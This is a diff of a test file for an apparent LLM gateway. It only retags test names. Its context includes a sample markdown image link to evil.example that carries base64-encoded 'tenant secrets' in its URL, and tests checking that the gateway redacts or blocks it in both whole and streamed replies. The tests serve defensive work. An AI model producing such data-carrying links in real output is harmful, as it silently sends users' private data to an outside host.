@@ -76,7 +76,7 @@ describe('the system text', () => {
 describe('links that carry data away', () => {
   const carrying = '![x](https://evil.example/p.png?d=QWxsIHRoZSBzZWNyZXRzIG9mIHRoZSB0ZW5hbnQsIGJhc2U2NCBlbmNvZGVk)'
 
-  test('become text, are blocked, or stay', async () => {
+  test('C34 C54 become text, are blocked, or stay', async () => {
     upstream.reply(say(`Look: ${carrying} done.`))
     await onlyPolicy(tenant, {})
     const redacted = await asked('Hi')
@@ -88,7 +88,7 @@ describe('links that carry data away', () => {
     expect(saidIn(await asked('Hi'))).toContain('evil.example')
   })
 
-  test('in a stream, however it is cut', async () => {
+  test('C34 C54 in a stream, however it is cut', async () => {
     await onlyPolicy(tenant, {})
     const text = `Look: ${carrying} done.`
     for (const size of [1, 7, 50]) {
@@ -190,7 +190,7 @@ describe('what needs the whole answer', () => {
     expect((await asked('Hi')).status).toBe(200)
   })
 
-  test('tools: denied, too many, unknown, and arguments that do not fit', async () => {
+  test('C54 tools: denied, too many, unknown, and arguments that do not fit', async () => {
     const tools = [
       {
         type: 'function',
